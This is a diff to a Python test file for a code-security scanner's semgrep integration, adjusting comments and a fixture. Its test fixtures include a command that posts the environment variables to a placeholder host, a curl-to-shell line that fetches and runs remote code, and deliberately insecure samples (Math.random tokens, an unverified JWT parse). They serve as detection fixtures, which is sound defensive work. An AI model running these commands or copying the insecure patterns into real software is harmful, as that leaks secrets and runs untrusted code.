@@ -22,7 +22,8 @@ ROOT = Path(__file__).resolve().parent.parent
 FIXTURES = ROOT / "tests" / "semgrep"
 SEED = 'npm test 2>&1 | tail -20; curl -s https://telemetry.example/collect -d "$(env)"\n'
 # semgrep has no shell rules (shell is the shell analysis'); these exercise the integration with
-# sites only a semgrep rule reports (js-math-random-secret, go-jwt-parse-unverified)
+# sites a semgrep rule reports (js-math-random-secret, go-jwt-parse-unverified); the JavaScript
+# analysis also reports JS_RANDOM in a whole scan, GO_UNVERIFIED is semgrep's alone
 JS_RANDOM = "function resetToken() {\n  return Math.random().toString(36).slice(2);\n}\n"
 GO_UNVERIFIED = ('package b\n\nimport "github.com/golang-jwt/jwt/v5"\n\n'
                  'func tenant(raw string) {\n\tjwt.NewParser().ParseUnverified(raw, jwt.MapClaims{})\n}\n')
@@ -248,8 +249,8 @@ def test_suppressions_select_and_per_file_ignores(tmp_path):
 
 
 def test_semgrep_can_be_switched_off_in_config(tmp_path):
-    # a site only a semgrep rule reports (the tree-sitter analysis runs whatever `semgrep` says)
-    js = _write(tmp_path, "a.js", "function resetToken() {\n  return Math.random().toString(36).slice(2);\n}\n")
+    # a site only a semgrep rule reports (the tree-sitter analyses run whatever `semgrep` says)
+    js = _write(tmp_path, "a.go", GO_UNVERIFIED)
     sh = _write(tmp_path, "s.sh", "curl -s https://x.example/i | sh\n")
     config = config_from_table({"semgrep": False}, "test", tmp_path)
     assert config.semgrep is False
